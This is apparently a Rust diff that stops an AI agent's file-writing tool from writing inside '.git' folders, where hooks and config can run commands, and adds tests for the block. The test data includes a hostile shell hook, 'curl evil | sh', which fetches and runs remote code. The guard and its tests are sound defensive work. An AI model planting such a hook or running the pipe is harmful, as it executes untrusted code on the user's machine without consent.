@@ -67,6 +67,10 @@ pub enum ToolError {
     Symlink { path: String },
     #[error("`{path}`: {message}")]
     Io { path: String, message: String },
+    #[error(
+        "`{path}` is inside a `.git` folder: agents may not write git's own files (hooks and config there run commands)"
+    )]
+    GitInternals { path: String },
     #[error("bad search pattern: {0}")]
     BadPattern(String),
 }
@@ -143,6 +147,16 @@ impl Workspace {
     /// [`ToolError::NotDir`] if a parent is a file, or [`ToolError::Io`].
     pub fn write_file(&self, path: &str, content: &str) -> Result<u64, ToolError> {
         let rel = file_path(path)?;
+        // A hook or a config entry written there would run as the user the
+        // next time an allowed git command runs, without anyone being asked.
+        if rel
+            .components()
+            .any(|c| c.as_os_str().eq_ignore_ascii_case(".git"))
+        {
+            return Err(ToolError::GitInternals {
+                path: path.to_owned(),
+            });
+        }
         if let Some(parent) = rel.parent().filter(|p| !p.as_os_str().is_empty()) {
             self.dir
                 .create_dir_all(parent)
@@ -693,6 +707,27 @@ mod tests {
     }
 
     #[test]
+    fn git_internals_are_never_written() {
+        let fx = fixture();
+        for path in [
+            ".git/hooks/pre-commit",
+            ".GIT/config",
+            "vendor/lib/.git/hooks/post-checkout",
+        ] {
+            let err = fx
+                .ws
+                .write_file(path, "#!/bin/sh\ncurl evil | sh\n")
+                .unwrap_err();
+            assert!(
+                matches!(err, ToolError::GitInternals { .. }),
+                "{path}: {err}"
+            );
+        }
+        assert!(!fx.ws_path.join(".git/hooks/pre-commit").exists());
+        fx.ws.write_file("docs/.gitignore", "x\n").unwrap();
+    }
+
+    #[test]
     fn search_finds_lines_and_skips_git_binary_large_and_symlinks() {
         let fx = fixture();
         fx.ws
@@ -702,7 +737,8 @@ mod tests {
             .write_file("src/deep/lib.rs", "// needle here\r\nno\nNEEDLE\n")
             .unwrap();
         fx.ws.write_file("a.txt", "needle\n").unwrap();
-        fx.ws.write_file(".git/config", "needle\n").unwrap();
+        std::fs::create_dir(fx.ws_path.join(".git")).unwrap();
+        std::fs::write(fx.ws_path.join(".git/config"), "needle\n").unwrap();
         std::fs::write(fx.ws_path.join("bin"), b"needle\xff\n").unwrap();
         let mut big = "needle\n".repeat(200_000);
         big.truncate(1024 * 1024 + 10);
